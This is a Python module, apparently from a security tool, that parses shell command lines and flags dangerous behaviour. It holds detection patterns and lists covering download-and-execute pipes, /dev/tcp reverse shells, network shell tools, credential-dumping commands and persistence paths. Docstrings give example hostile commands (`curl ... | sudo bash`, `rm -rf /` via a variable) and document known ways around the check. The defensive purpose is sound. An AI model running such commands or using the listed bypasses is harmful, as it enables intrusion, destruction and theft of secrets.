"""Shell commands read with a real parser (tree-sitter-bash) and judged for dangerous behaviour.

`analyze_shell("curl -s https://x.sh | sudo bash")` -> a `ShellAnalysis` whose signals include
`shell.download-exec` and `shell.privilege`. The analysis is lexical: nothing is run and the
filesystem is never read. Words are unquoted (`r''m`, `"c"url`, `\\rm` -> rm), `~`, `$HOME` and
variables assigned literally earlier in the command (`a=rm; $a -rf /`) are expanded, wrapper
commands (`sudo`, `env`, `nohup`, `timeout`, `xargs`, `busybox`, ...) are looked through, and
strings run by `sh -c`, `eval`, `su -c`, `script -c`, `watch` are parsed again (at most
`MAX_DEPTH` levels deep). Anything that cannot be read is reported as `shell.unparsed`.

Known bypasses (not resolved lexically): variables set by other processes or files, aliases and
functions defined earlier in the session, `$IFS` tricks, globs that expand to a command name
(`/???/r?`), code fetched or decoded at run time by a program other than the ones named here.
"""

from __future__ import annotations

import itertools
import posixpath
import re
import threading
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field

import tree_sitter as ts

from redline.code.languages import parse_input
from redline.code.languages import parser as _new_parser
from redline.guard.paths import (
    inside_any,
    is_secret_path,
    looks_like_path,
    normalize_path,
    normalize_roots,
)
from redline.guard.types import Signal
from redline.guard.urls import domain_matches, host_of

__all__ = ["MAX_DEPTH", "Command", "ShellAnalysis", "analyze_shell"]

MAX_DEPTH = 4  # nested `sh -c` / `eval` strings parsed at most this deep
# Longest command read; longer input is read up to here and reported unparsed.
_MAX_BYTES = 256_000
_MAX_NODES = 200_000  # syntax-tree nodes visited per analysis
_MAX_COMMANDS = 5_000  # simple commands kept per analysis
_MAX_TREE_DEPTH = 400  # deeper syntax trees are not walked further
_MAX_SIGNALS_PER_KIND = 20

_UNKNOWN = "\x00"  # marks a word that holds a value not known before run time


@dataclass(frozen=True, slots=True)
class Command:
    """One simple command: its words after quote removal, and its source text."""

    argv: tuple[str, ...]
    text: str


@dataclass(frozen=True, slots=True)
class ShellAnalysis:
    """What a shell command line does: its simple commands, the signals, whether it parsed.

    `downloads`: files it downloads (as written); `runs`: files it executes or makes
    executable; `remotes`: git remotes it adds (name, url); `pushes`: git remotes it pushes to;
    `read_only`: every command only reads or prints (ls, cat, grep, git status, ...);
    `removes`: the paths it deletes (`rm`, `shred`, `unlink`, ... operands, as written).
    """

    commands: tuple[Command, ...]
    signals: tuple[Signal, ...]
    parsed: bool
    downloads: tuple[str, ...] = ()
    runs: tuple[str, ...] = ()
    remotes: tuple[tuple[str, str], ...] = ()
    pushes: tuple[str, ...] = ()
    read_only: bool = False
    removes: tuple[str, ...] = ()


# --------------------------------------------------------------------------------------------
# Command vocabulary

_SHELLS = frozenset(
    [
        "sh",
        "bash",
        "zsh",
        "dash",
        "ksh",
        "mksh",
        "ash",
        "fish",
        "csh",
        "tcsh",
        "rbash",
        "yash",
        "busybox-sh",
        "pwsh",
        "powershell",
    ]
)
_INTERPRETER_RE = re.compile(
    r"^(python[\d.]*|pypy[\d.]*|perl[\d.]*|ruby[\d.]*|node|nodejs|deno|bun|php[\d.]*|lua[\d.]*"
    r"|luajit|tclsh|osascript|rscript|jshell|gawk|awk|nawk|mawk|irb|groovy|expect)$"
)
_CODE_FLAGS = {
    "python": ("-c",),
    "pypy": ("-c",),
    "perl": ("-e", "-E"),
    "ruby": ("-e",),
    "node": ("-e", "--eval", "-p", "--print"),
    "nodejs": ("-e", "--eval", "-p", "--print"),
    "deno": ("eval",),
    "bun": ("-e", "--eval"),
    "php": ("-r",),
    "lua": ("-e",),
    "luajit": ("-e",),
    "osascript": ("-e",),
    "rscript": ("-e",),
    "irb": ("-e",),
}
_DOWNLOADERS = frozenset(
    [
        "curl",
        "wget",
        "fetch",
        "aria2c",
        "lwp-download",
        "lwp-request",
        "lynx",
        "links",
        "http",
        "https",
        "xh",
        "tftp",
        "ftp",
        "iwr",
        "invoke-webrequest",
        "invoke-restmethod",
        "irm",
        "certutil",
        "bitsadmin",
    ]
)
_NET_CLIENTS = frozenset(
    ["nc", "ncat", "netcat", "telnet", "socat", "openssl", "cryptcat", "pwncat"]
)
_WRAPPERS_PLAIN = frozenset(
    [
        "nohup",
        "setsid",
        "time",
        "command",
        "builtin",
        "exec",
        "unbuffer",
        "torsocks",
        "caffeinate",
        "stdbuf",
        "nice",
        "ionice",
        "chrt",
        "taskset",
        "strace",
        "ltrace",
        "proxychains",
        "proxychains4",
        "firejail",
        "doas",
        "pkexec",
        "sudo",
        "timeout",
        "chroot",
        "flock",
        "env",
        "xargs",
        "busybox",
        "runuser",
    ]
)
# Options that take a value, per wrapper (the value is skipped with the option).
_WRAPPER_ARG_OPTS: dict[str, frozenset[str]] = {
    "sudo": frozenset(
        [
            "-u",
            "-g",
            "-h",
            "-p",
            "-C",
            "-D",
            "-r",
            "-t",
            "-U",
            "-T",
            "-R",
            "--user",
            "--group",
            "--host",
            "--prompt",
        ]
    ),
    "doas": frozenset(("-u", "-C")),
    "timeout": frozenset(("-s", "--signal", "-k", "--kill-after")),
    "nice": frozenset(("-n", "--adjustment")),
    "ionice": frozenset(("-c", "-n", "-p", "--class", "--classdata")),
    "chrt": frozenset(("-p",)),
    "taskset": frozenset(("-p", "-c")),
    "stdbuf": frozenset(("-i", "-o", "-e")),
    "env": frozenset(("-u", "--unset", "-C", "--chdir", "-S", "--split-string")),
    "xargs": frozenset(
        [
            "-a",
            "-d",
            "-E",
            "-e",
            "-I",
            "-i",
            "-L",
            "-l",
            "-n",
            "-P",
            "-s",
            "--arg-file",
            "--delimiter",
            "--max-args",
            "--max-procs",
            "--replace",
            "--max-lines",
            "--max-chars",
        ]
    ),
    "strace": frozenset(("-o", "-e", "-p", "-s")),
    "ltrace": frozenset(("-o", "-e", "-p", "-s")),
    "proxychains": frozenset(("-f",)),
    "proxychains4": frozenset(("-f",)),
    "flock": frozenset(("-w", "--timeout", "-E", "--conflict-exit-code")),
    "runuser": frozenset(("-u", "--user", "-g", "--group", "-G")),
    "command": frozenset(),
}
_PRIVILEGE_CMDS = frozenset(["sudo", "su", "doas", "pkexec", "runuser", "runas", "gsudo"])
_DESTROYERS = frozenset(["rm", "shred", "wipe", "srm", "unlink", "rmdir"])
_ALWAYS_DESTRUCTIVE = re.compile(
    r"^(mkfs(\.\w+)?|mke2fs|mkswap|wipefs|fdisk|sfdisk|cfdisk|parted|sgdisk|blkdiscard|"
    r"format|diskpart|cipher)$"
)
_COPY_CMDS = frozenset(["cp", "mv", "install", "ln", "rsync", "scp"])
_SECRET_VAR_RE = re.compile(
    r"(?i)(secret|token|passw|api_?key|private_?key|credential|access_?key|auth|session_?key"
    r"|client_?secret|_pat$|^pat_)"
)
_ENV_STAGE = re.compile(r"^\s*(?:env|printenv)\s*$")
_NARROW_STAGE = re.compile(
    r"^\s*(?:grep|egrep|fgrep|rg)(?:\s+-[iwFEx]+)*\s+(['\"]?)\^?([A-Za-z_][A-Za-z0-9_]{3,})=?\1\s*$"
)


def _narrows_env(stage: str, following: str) -> bool:
    """`env | grep NAME`: an environment listing filtered to one variable whose name is not a
    secret's (at least four characters, no -v)."""
    if not _ENV_STAGE.match(stage):
        return False
    m = _NARROW_STAGE.match(following)
    return m is not None and not _SECRET_VAR_RE.search(m.group(2))


_SECRET_TOOLS: tuple[tuple[str, re.Pattern[str]], ...] = (
    (
        "security",
        re.compile(r"^(find-(generic|internet)-password|dump-keychain|export|find-certificate)"),
    ),
    ("secret-tool", re.compile(r"^(lookup|search)")),
    ("gpg", re.compile(r"^--export-secret")),
    ("gpg2", re.compile(r"^--export-secret")),
    ("aws", re.compile(r"^(configure|export-credentials)$")),
    ("gcloud", re.compile(r"^(print-access-token|print-identity-token|application-default)$")),
    ("gh", re.compile(r"^token$")),
    ("az", re.compile(r"^get-access-token$")),
    ("kubectl", re.compile(r"^--raw$")),
    ("vault", re.compile(r"^(read|get)$")),
    ("op", re.compile(r"^(read|get)$")),
    ("pass", re.compile(r"^show$")),
    ("git", re.compile(r"^fill$")),
    ("cmdkey", re.compile(r"^/list$")),
    ("keyring", re.compile(r"^get$")),
)
_ENV_DUMPERS = frozenset(("env", "printenv", "set", "export", "declare", "typeset", "compgen"))
_LOG_SERVICES = re.compile(
    r"^(auditd|rsyslog|syslog|syslog-ng|systemd-journald|journald|auditbeat|osqueryd|falco"
    r"|wazuh-agent|ossec|sysmon|filebeat|splunkd|splunkforwarder)(\.service)?$"
)
# Journal retention that keeps at least a day of logs (`--vacuum-time=14d`) or a sizeable
# amount (`--vacuum-size=500M`) is housekeeping; less wipes what an intruder left.
_VACUUM_RE = re.compile(r"^--vacuum-(time|size|files)(?:=(.*))?$")
_DURATION_RE = re.compile(r"^(\d+)\s*([a-z]*)$")
# Seconds per unit, by the unit's first letters (journalctl's time spans; the longer first).
_UNIT_SECONDS = (
    ("month", 2_592_000), ("min", 60), ("ms", 0), ("us", 0), ("s", 1), ("m", 60),
    ("h", 3_600), ("d", 86_400), ("w", 604_800), ("y", 31_536_000),
)  # fmt: skip
_SIZE_RE = re.compile(r"^(\d+)\s*([kmgt]?)$")
_SIZE_SCALE = {"": 1, "k": 1 << 10, "m": 1 << 20, "g": 1 << 30, "t": 1 << 40}


def _vacuum_keeps(option: str, value: str) -> bool:
    """Whether a journal vacuum limit keeps at least a day, 50 MB or two files of logs."""
    value = value.strip().lower()
    if option == "time":
        m = _DURATION_RE.match(value)
        unit = (m.group(2) or "s") if m else ""
        seconds = next((v for prefix, v in _UNIT_SECONDS if unit.startswith(prefix)), None)
        return m is not None and seconds is not None and int(m.group(1)) * seconds >= 86_400
    if option == "size":
        m = _SIZE_RE.match(value)
        return m is not None and int(m.group(1)) * _SIZE_SCALE[m.group(2)] >= 50 << 20
    return value.isdigit() and int(value) >= 2


def _wipes_journal(vals: list[str]) -> bool:
    """Whether `journalctl` arguments delete journal logs beyond housekeeping: a vacuum that
    keeps less than `_vacuum_keeps` allows, or a rotation with no vacuum at all."""
    vacuums: list[tuple[str, str]] = []
    for i, v in enumerate(vals):
        m = _VACUUM_RE.match(v)
        if m is not None:
            given = m.group(2)
            if given is None:
                given = vals[i + 1] if i + 1 < len(vals) else ""
            vacuums.append((m.group(1), given))
    if vacuums:
        return not all(_vacuum_keeps(option, value) for option, value in vacuums)
    return "--rotate" in vals


_HIST_VARS = frozenset(("HISTFILE", "HISTSIZE", "HISTFILESIZE", "HISTCONTROL", "HISTIGNORE"))
_HISTORY_FILE_RE = re.compile(
    r"(^|/)(\.bash_history|\.zsh_history|\.history|\.sh_history|\.python_history"
    r"|\.node_repl_history|\.mysql_history|\.psql_history|\.lesshst|\.viminfo)$"
)
_LOG_PATH_RE = re.compile(r"^/var/log(/|$)|^/var/(adm|audit)(/|$)|(^|/)wtmp$|(^|/)btmp$|lastlog$")
_PERSIST_PATH_RE = re.compile(
    r"(^|/)("
    r"\.bashrc|\.bash_profile|\.bash_login|\.bash_logout|\.profile|\.zshrc|\.zprofile|\.zshenv"
    r"|\.zlogin|\.kshrc|\.cshrc|\.tcshrc|\.xinitrc|\.xprofile|\.xsession|\.inputrc"
    r"|\.config/fish/config\.fish|\.config/autostart(/.*)?|\.config/systemd(/.*)?"
    r"|\.ssh/authorized_keys2?|\.ssh/rc|\.ssh/config|\.ssh/environment"
    r"|\.local/share/systemd(/.*)?|library/launchagents(/.*)?|library/launchdaemons(/.*)?"
    r"|library/startupitems(/.*)?|\.git/hooks/.*|\.vimrc|\.npmrc|\.pip/pip\.conf|\.pydistutils\.cfg"
    r")$|^/etc/(cron[^/]*|anacrontab|crontab|profile|profile\.d|bash\.bashrc|bashrc|zsh|rc\.local"
    r"|rc\d\.d|init\.d|init|systemd|xdg/autostart|update-motd\.d|ld\.so\.preload|environment"
    r"|pam\.d|ssh/sshrc|security)(/|$)|^/var/spool/cron(/|$)|^/(usr/)?lib/systemd(/|$)"
    r"|^/(usr/local/)?etc/periodic(/|$)|^/library/(launch(agents|daemons)|startupitems)(/|$)",
    re.IGNORECASE,
)
_PRIV_PATH_RE = re.compile(r"^/etc/(sudoers(\.d)?|passwd|group|shadow|doas\.conf)(/|$)")
_SETUID_RE = re.compile(r"^[ugoa]*[+=][rwxXt]*s|^[2467]\d{3}$")
_SOCKET_RE = re.compile(
    r"(?i)(socket|/inet/(tcp|udp)|/dev/(tcp|udp)|net\.connect|net\.socket|new net\.|TCPSocket"
    r"|fsockopen|IO::Socket|createConnection|TCPClient|Net::Telnet|stream_socket_client)"
)
_EXEC_RE = re.compile(
    r"(?i)(\bexec|spawn|subprocess|\bpty\b|dup2|/bin/(ba|z|da)?sh|cmd\.exe|popen|system\s*\("
    r"|proc_open|child_process|shell_exec|passthru|\bsh\b.*-i|`)"
)
_FETCH_RE = re.compile(
    r"(?i)(urlopen|urllib|requests\.(get|post)|https?\.get|fetch\(|open-uri|Net::HTTP|LWP::"
    r"|HTTP::Tiny|file_get_contents\s*\(\s*['\"]https?|DownloadString|DownloadFile|WebClient"
    r"|Invoke-WebRequest|\biwr\b|Invoke-RestMethod|\birm\b|curl|wget)"
)
_DECODE_RE = re.compile(
    r"(?i)(b64decode|base64|fromhex|unhexlify|\batob\b|decode_base64|FromBase64String"
    r"|decode\(['\"](hex|base64|rot13)|codecs\.decode|zlib\.decompress|marshal\.loads)"
)
_RUN_CODE_RE = re.compile(
    r"(?i)(\bexec\s*\(|\beval\s*\(|system\s*\(|subprocess|spawn|popen|compile\s*\(|\biex\b"
    r"|Invoke-Expression|__import__|child_process|\bload\s*\()"
)
_QUOTED_RE = re.compile(r"""["']([^"'\n]{1,300})["']""")
_K8S_ROUTINE = frozenset(["pod", "pods", "po", "job", "jobs", "event", "events", "ev"])
_CLOUD_CLIS = frozenset(
    [
        "gcloud",
        "az",
        "doctl",
        "flyctl",
        "fly",
        "heroku",
        "vercel",
        "netlify",
        "linode-cli",
        "hcloud",
        "oci",
        "ibmcloud",
        "scw",
        "eksctl",
        "gh",
        "glab",
        "firebase",
        "supabase",
        "wrangler",
    ]
)
_CLOUD_DESTROY_VERBS = frozenset(["delete", "destroy", "rm", "remove", "terminate", "purge"])
_CURL_DATA = frozenset(
    [
        "-d",
        "--data",
        "--data-binary",
        "--data-raw",
        "--data-urlencode",
        "--data-ascii",
        "--json",
        "-F",
        "--form",
        "--form-string",
        "-T",
        "--upload-file",
    ]
)
_SENDERS = frozenset(
    [
        "curl",
        "wget",
        "nc",
        "ncat",
        "netcat",
        "socat",
        "scp",
        "sftp",
        "rsync",
        "ssh",
        "ftp",
        "telnet",
        "sendmail",
        "mail",
        "mutt",
        "http",
        "https",
        "xh",
        "httpie",
    ]
)

_FALLBACK_RULES: tuple[tuple[str, re.Pattern[str], str], ...] = (
    (
        "shell.download-exec",
        re.compile(r"(?i)\b(curl|wget)\b[^|;&\n]*\|\s*(sudo\s+)?(\S*/)?(ba|z|da|k)?sh\b"),
        "a download piped into a shell",
    ),
    (
        "shell.decode-exec",
        re.compile(r"(?i)base64\s+(-d|--decode|-D)[^;&\n]*\|\s*(sudo\s+)?(\S*/)?(ba|z|da|k)?sh\b"),
        "decoded text piped into a shell",
    ),
    ("shell.reverse-shell", re.compile(r"/dev/(tcp|udp)/"), "a /dev/tcp socket"),
)


def _flag(word: str, letters: str) -> bool:
    """True for a short option cluster such as `-xc` that holds one of `letters`."""
    return (
        1 < len(word) <= 32
        and word[0] == "-"
        and word[1:].isalpha()
        and any(c in word[1:] for c in letters)
    )


def _base(name: str) -> str:
    n = name.rsplit("/", 1)[-1].rsplit("\\", 1)[-1]
    n = n.lower() if n.lower().endswith(".exe") or n[:1].isupper() else n
    return n[:-4] if n.endswith(".exe") else n


def _family(name: str) -> str:
    """`python3.11` -> `python`, `perl5` -> `perl`; others unchanged."""
    return re.sub(r"[\d.]+$", "", name) or name


def _is_shell(name: str) -> bool:
    return name in _SHELLS


def _is_interp(name: str) -> bool:
    return name in _SHELLS or bool(_INTERPRETER_RE.match(name))


# --------------------------------------------------------------------------------------------
# Internal records


@dataclass
class _Redirect:
    op: str
    target: str
    unknown: bool
    inner: list[_Simple] = field(default_factory=list)  # commands of a process substitution


@dataclass
class _Word:
    value: str
    unknown: bool
    subs: list[_Simple] = field(default_factory=list)  # commands of substitutions in the word
    procsub: bool = False


@dataclass
class _Simple:
    words: list[_Word]
    assigns: list[tuple[str, str]]
    redirects: list[_Redirect]
    text: str
    start: int
    # filled by _resolve
    argv: list[str] = field(default_factory=list)
    name: str = ""
    head: str = ""  # the real command's word as written (`/bin/rm`, `./x.sh`)
    rest: list[_Word] = field(default_factory=list)  # the real command's words after the name
    wrappers: list[str] = field(default_factory=list)
    env_assigns: list[tuple[str, str]] = field(default_factory=list)
    secret: bool = False  # prints secret-bearing data (a credentials file, an env dump)


class _Budget(Exception):
    """Raised inside the walk when a size budget is spent."""


# --------------------------------------------------------------------------------------------

_local = threading.local()


def _parser() -> ts.Parser:
    p: ts.Parser | None = getattr(_local, "parser", None)
    if p is None:
        p = _new_parser("bash")
        _local.parser = p
    return p


# `git push` options that overwrite or delete what the remote holds.
_HISTORY_REWRITE_FLAGS = frozenset(
    {"-f", "--force", "--force-with-lease", "--force-if-includes", "--mirror", "-d", "--delete",
     "--prune"}
)  # fmt: skip
_ANSI_ESCAPES = {"n": "\n", "t": "\t", "r": "\r", "a": "\a", "b": "\b", "e": "\x1b", "E": "\x1b"}
_ANSI_RE = re.compile(r"\\(x[0-9A-Fa-f]{1,2}|u[0-9A-Fa-f]{1,4}|U[0-9A-Fa-f]{1,8}|[0-7]{1,3}|.)")


def _ansi_c(body: str) -> str:
    def sub(m: re.Match[str]) -> str:
        e = m.group(1)
        if e[0] in "xuU" and len(e) > 1:
            return chr(min(int(e[1:], 16), 0x10FFFF))
        if e[0] in "01234567":
            return chr(int(e, 8) & 0xFF)
        return _ANSI_ESCAPES.get(e, e)

    return _ANSI_RE.sub(sub, body)


def _unescape_word(text: str) -> str:
    return re.sub(r"\\(.)", r"\1", text.replace("\\\n", ""), flags=re.DOTALL)


def _unescape_dq(text: str) -> str:
    return re.sub(r"\\([$`\"\\\n])", lambda m: "" if m.group(1) == "\n" else m.group(1), text)


class _Analyzer:
    def __init__(
        self,
        roots: Sequence[str],
        home: str,
        cwd: str | None,
        network_allow: Sequence[str] = (),
    ) -> None:
        self.roots = tuple(roots)
        self.network_allow = tuple(network_allow)
        self.remotes: list[tuple[str, str]] = []
        self.pushes: list[str] = []
        self.home = home
        self.cwd = cwd
        self.workspace = normalize_roots(roots, home=home, cwd=cwd)
        self.signals: list[Signal] = []
        self.commands: list[_Simple] = []
        self.parsed = True
        self.nodes = 0
        self.vars: dict[str, str] = {}
        self._counts: dict[str, int] = {}
        self._seen: set[tuple[str, str]] = set()
        # `env` stages whose output a later stage narrows to one named variable (by position
        # and text): `env | grep DB_HOST` shows one setting, not the environment.
        self._narrowed: set[tuple[int, str]] = set()

    # ---- reporting -----------------------------------------------------------------------

    def emit(self, kind: str, reason: str, evidence: str) -> None:
        key = (kind, evidence[:200])
        if key in self._seen or self._counts.get(kind, 0) >= _MAX_SIGNALS_PER_KIND:
            return
        self._seen.add(key)
        self._counts[kind] = self._counts.get(kind, 0) + 1
        self.signals.append(Signal(kind, reason, argument=None, evidence=evidence[:200]))

    def unparsed(self, reason: str, evidence: str) -> None:
        self.parsed = False
        self.emit("shell.unparsed", reason, evidence)

    # ---- parsing -------------------------------------------------------------------------

    def run(self, source: str, depth: int) -> list[_Simple]:
        """Parse and walk `source`; return its simple commands in source order."""
        if depth > MAX_DEPTH:
            self.unparsed(f"nested more than {MAX_DEPTH} levels deep", source)
            return []
        data = parse_input("bash", source)
        if len(data) > _MAX_BYTES:
            self.unparsed(f"command longer than {_MAX_BYTES} bytes read in part", source[:200])
            data = data[:_MAX_BYTES]
        tree = _parser().parse(data)
        root = tree.root_node
        if root.has_error:
            self.unparsed("the shell parser found a syntax error", source)
            self._fallback(source)
        out: list[_Simple] = []
        try:
            self._walk(root, out, depth, 0)
        except _Budget:
            self.unparsed("command too large to analyse in full", source[:200])
        except RecursionError:
            self.unparsed("command nested too deeply to analyse", source[:200])
        self._script_rules(out, source)
        return out

    def _fallback(self, source: str) -> None:
        for kind, pattern, why in _FALLBACK_RULES:
            m = pattern.search(source[:_MAX_BYTES])
            if m:
                self.emit(kind, why + " (read from unparsed text)", m.group(0))

    def _tick(self) -> None:
        self.nodes += 1
        if self.nodes > _MAX_NODES or len(self.commands) > _MAX_COMMANDS:
            raise _Budget

    def _walk(self, node: ts.Node, out: list[_Simple], depth: int, level: int) -> None:
        """Collect the simple commands under `node` into `out` (source order)."""
        self._tick()
        if level > _MAX_TREE_DEPTH:
            raise _Budget
        t = node.type
        if t == "command":
            self._command(node, out, depth, level)
        elif t == "redirected_statement":
            body = node.child_by_field_name("body")
            mine: list[_Simple] = []
            if body is not None:
                self._walk(body, mine, depth, level + 1)
            redirects = [
                r
                for c in node.children
                if c is not body
                for r in self._redirects(c, out, depth, level + 1)
            ]
            whole = body is not None and body.type == "command"
            chosen = mine[-1] if body is not None and body.type == "pipeline" and mine else None
            for cmd in mine:
                if whole or cmd is (chosen or mine[0]):
                    cmd.redirects.extend(redirects)
                    if whole and cmd.start == node.start_byte:
                        cmd.text = self._text(node)
                    self._redirect_rules(cmd)
            if not mine and redirects:
                bare = _Simple([], [], redirects, self._text(node), node.start_byte)
                mine.append(bare)
                self.commands.append(bare)
                self._redirect_rules(bare)
            out.extend(mine)
        elif t == "pipeline":
            self._pipeline(node, out, depth, level)
        elif t == "variable_assignment":
            self._assignment(node, out, depth, level, standalone=True)
        elif t == "declaration_command":
            self._declaration(node, out, depth, level)
        elif t == "unset_command":
            names = [self._text(c) for c in node.children[1:]]
            if any(n in _HIST_VARS for n in names):
                self.emit("shell.history-off", "unsets a shell history variable", self._text(node))
        elif t == "function_definition":
            text = self._text(node)
            for c in node.children:
                if c.type not in ("word", "(", ")", "function"):
                    self._walk(c, out, depth, level + 1)
            name_node = node.child_by_field_name("name")
            fname = re.escape(self._text(name_node)) if name_node is not None else "_"
            if re.search(rf"(^|[\s;{{(]){fname}\s*\|\s*{fname}\s*&", text[:2000]):
                self.emit("shell.destructive-outside-workspace", "a fork bomb", text)
        elif t in ("command_substitution", "process_substitution"):
            self._substitution(node, out, depth, level)
        elif t == "heredoc_body":
            return
        else:
            for c in node.children:
                self._walk(c, out, depth, level + 1)

    def _text(self, node: ts.Node) -> str:
        return (node.text or b"").decode("utf-8", "replace")

    def _substitution(
        self, node: ts.Node, out: list[_Simple], depth: int, level: int
    ) -> list[_Simple]:
        inner: list[_Simple] = []
        for c in node.children:
            self._walk(c, inner, depth, level + 1)
        self._script_rules(inner, self._text(node))
        form = "process substitution" if node.type == "process_substitution" else "substitution"
        self.emit("shell.nested", f"runs a command {form}", self._text(node))
        out.extend(inner)
        return inner

    def _pipeline(self, node: ts.Node, out: list[_Simple], depth: int, level: int) -> None:
        kids = [c for c in node.children if c.type not in ("|", "|&")]
        for a, b in itertools.pairwise(kids):
            if _narrows_env(self._text(a), self._text(b)):
                self._narrowed.add((a.start_byte, self._text(a)))
        stages: list[list[_Simple]] = []
        for c in node.children:
            if c.type in ("|", "|&"):
                continue
            stage: list[_Simple] = []
            self._walk(c, stage, depth, level + 1)
            stages.append(stage)
            out.extend(stage)
        text = self._text(node)
        for j, later in enumerate(stages):
            readers = [s for s in later if self._reads_code_stdin(s)]
            if not readers:
                continue
            earlier = [s for stage in stages[:j] for s in stage]
            if any(self._is_downloader(s) for s in earlier):
                self.emit("shell.download-exec", "pipes a download into an interpreter", text)
            if any(self._is_decoder(s) for s in earlier):
                self.emit("shell.decode-exec", "pipes decoded text into an interpreter", text)
        for j, later in enumerate(stages):
            if any(self._sends(s) for s in later) and any(
                s.secret for stage in stages[:j] for s in stage
            ):
                self.emit(
                    "shell.exfiltration", "pipes secret-bearing output into a network command", text
                )
        names = [s.name for stage in stages for s in stage]
        if any(self._is_net_client(s) for st in stages for s in st) and any(
            _is_shell(n) or n in ("exec",) for n in names
        ):
            self.emit("shell.reverse-shell", "connects a shell to a network client", text)

    # ---- words ---------------------------------------------------------------------------

    def _word(self, node: ts.Node, out: list[_Simple], depth: int, level: int) -> _Word:
        self._tick()
        if level > _MAX_TREE_DEPTH:
            raise _Budget
        t = node.type
        text = self._text(node)
        if t in ("word", "number", "special_variable_name", "variable_name", "file_descriptor"):
            return _Word(_unescape_word(text), False)
        if t == "raw_string":
            return _Word(text[1:-1], False)
        if t == "ansi_c_string":
            return _Word(_ansi_c(text[2:-1]), False)
        if t in ("string", "translated_string"):
            parts: list[_Word] = []
            for c in node.children:
                if c.type in ('"', "$"):
                    continue
                if c.type == "string_content":
                    parts.append(_Word(_unescape_dq(self._text(c)), False))
                else:
                    parts.append(self._word(c, out, depth, level + 1))
            return self._join(parts)
        if t == "concatenation":
            return self._join([self._word(c, out, depth, level + 1) for c in node.children])
        if t in ("simple_expansion", "expansion"):
            return self._expand(node, text)
        if t in ("command_substitution", "process_substitution"):
            inner = self._substitution(node, out, depth, level)
            return _Word(text, True, inner, procsub=t == "process_substitution")
        if t == "brace_expression":
            return _Word(text, False)
        if t == "arithmetic_expansion":
            return _Word(text, True)
        # anything else: walk it for commands, keep its text
        sub: list[_Simple] = []
        for c in node.children:
            self._walk(c, sub, depth, level + 1)
        out.extend(sub)
        return _Word(text, bool(sub), sub)

    def _join(self, parts: list[_Word]) -> _Word:
        return _Word(
            "".join(p.value for p in parts),
            any(p.unknown for p in parts),
            [s for p in parts for s in p.subs],
            any(p.procsub for p in parts),
        )

    def _expand(self, node: ts.Node, text: str) -> _Word:
        m = re.fullmatch(r"\$\{?([A-Za-z_][A-Za-z0-9_]*)\}?", text)
        if m is None:
            return _Word(text, True)
        name = m.group(1)
        if name == "HOME":
            return _Word(text, False)  # paths.py expands $HOME itself
        if name == "PWD":
            return _Word(self.cwd or ".", False)
        if name in self.vars:
            return _Word(self.vars[name], False)
        if _SECRET_VAR_RE.search(name):
            self.emit("shell.secret-read", f"expands the secret-named variable ${name}", text)
        return _Word(text, True)

    # ---- commands ------------------------------------------------------------------------

    def _assignment(
        self, node: ts.Node, out: list[_Simple], depth: int, level: int, *, standalone: bool
    ) -> tuple[str, str]:
        name_node = node.child_by_field_name("name")
        value_node = node.child_by_field_name("value")
        name = self._text(name_node) if name_node is not None else ""
        word = (
            self._word(value_node, out, depth, level + 1)
            if value_node is not None
            else _Word("", False)
        )
        self._check_assignment(name, word.value, self._text(node))
        if standalone:
            if word.unknown:
                self.vars.pop(name, None)
            else:
                self.vars[name] = word.value
        return name, word.value

    def _check_assignment(self, name: str, value: str, text: str) -> None:
        if name in ("HISTFILE",) and (value in ("", "/dev/null") or not value.strip()):
            self.emit("shell.history-off", "points HISTFILE nowhere", text)
        elif name in ("HISTSIZE", "HISTFILESIZE", "SAVEHIST") and value.strip() in ("0", ""):
            self.emit("shell.history-off", f"sets {name} to zero", text)
        elif name == "HISTIGNORE" and value.strip() in ("*", "'*'"):
            self.emit("shell.history-off", "ignores every command in history", text)
        elif name in ("LD_PRELOAD", "PROMPT_COMMAND", "BASH_ENV", "ENV") and value:
            self.emit("shell.persistence", f"sets {name}, which runs code in later commands", text)

    def _declaration(self, node: ts.Node, out: list[_Simple], depth: int, level: int) -> None:
        kw = node.children[0].type if node.children else ""
        args = node.children[1:]
        for c in args:
            if c.type == "variable_assignment":
                self._assignment(c, out, depth, level + 1, standalone=True)
            else:
                self._walk(c, out, depth, level + 1)
        flags = {self._text(c) for c in args if c.type == "word"}
        assigns = [c for c in args if c.type == "variable_assignment"]
        names = [c for c in args if c.type in ("variable_name", "word") and c.type != "-"]
        if kw in ("export", "declare", "typeset") and not assigns:
            plain = [self._text(c) for c in names if not self._text(c).startswith("-")]
            if not plain and (not flags or flags & {"-p", "-x", "-px", "-xp"}):
                self.emit("shell.secret-read", f"dumps the environment ({kw})", self._text(node))

    def _redirects(
        self, node: ts.Node, out: list[_Simple], depth: int, level: int
    ) -> list[_Redirect]:
        t = node.type
        if t == "heredoc_redirect":
            found: list[_Redirect] = []
            for c in node.children:
                if c.type in ("file_redirect", "herestring_redirect"):
                    found.extend(self._redirects(c, out, depth, level + 1))
                elif c.type not in ("heredoc_body", "heredoc_start", "heredoc_end", "<<", "<<-"):
                    self._walk(c, out, depth, level + 1)
            found.append(_Redirect("<<", "", False))
            return found
        if t == "herestring_redirect":
            parts = [c for c in node.children if c.type != "<<<"]
            word = self._word(parts[0], out, depth, level + 1) if parts else _Word("", False)
            return [_Redirect("<<<", word.value, word.unknown, word.subs)]
        if t != "file_redirect":
            return []
        op = ""
        target: _Word | None = None
        for c in node.children:
            if c.type in (">", ">>", "<", ">&", "<&", "&>", "&>>", ">|", "<>", ">&-", "<&-"):
                op = c.type
            elif node.field_name_for_child(node.children.index(c)) == "destination":
                if target is None:
                    target = self._word(c, out, depth, level + 1)
                else:  # `>& /dev/tcp/h/p 0>&1` reads as one redirect with two destinations
                    extra = self._word(c, out, depth, level + 1)
                    target = _Word(target.value + " " + extra.value, target.unknown)
        if target is None:
            return []
        return [_Redirect(op, target.value, target.unknown, target.subs)]

    def _command(self, node: ts.Node, out: list[_Simple], depth: int, level: int) -> None:
        words: list[_Word] = []
        assigns: list[tuple[str, str]] = []
        redirects: list[_Redirect] = []
        pre: list[_Simple] = []
        for c in node.children:
            if c.type == "variable_assignment":
                assigns.append(self._assignment(c, pre, depth, level + 1, standalone=False))
            elif c.type == "command_name":
                for cc in c.children:
                    words.append(self._word(cc, pre, depth, level + 1))
            elif c.type in ("file_redirect", "heredoc_redirect", "herestring_redirect"):
                redirects.extend(self._redirects(c, pre, depth, level + 1))
            elif c.type in ("$", "subscript"):
                continue
            else:
                words.append(self._word(c, pre, depth, level + 1))
        cmd = _Simple(words, assigns, redirects, self._text(node), node.start_byte)
